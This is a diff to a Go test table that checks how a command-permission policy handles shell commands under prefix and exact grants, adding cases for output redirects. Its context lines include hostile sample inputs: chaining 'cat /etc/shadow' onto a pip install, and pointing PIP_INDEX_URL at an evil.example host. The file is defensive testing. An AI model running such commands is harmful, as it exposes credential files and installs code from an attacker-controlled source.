@@ -250,6 +250,9 @@ func TestGrants(t *testing.T) {
 		{"grants never override a deny", "pip install requests && cat /etc/shadow", exact, policy.Deny},
 		{"a prefix does not cover environment assignments", "PIP_INDEX_URL=https://evil.example pip install numpy", prefix, policy.Ask},
 		{"nor an env wrapper", "env PIP_INDEX_URL=https://evil.example pip install numpy", prefix, policy.Ask},
+		{"a prefix does not cover a redirect", "pip install numpy > requirements.txt", prefix, policy.Ask},
+		{"nor one around a block", "{ pip install numpy; } > requirements.txt", prefix, policy.Ask},
+		{"an exact grant does not cover a redirect", "pip install requests > requirements.txt", exact, policy.Ask},
 		{"grant for another tool", "pip install requests", []policy.Grant{{ID: "g", Tool: "fetch_url", Exact: "pip install requests"}}, policy.Ask},
 	} {
 		t.Run(tt.name, func(t *testing.T) {
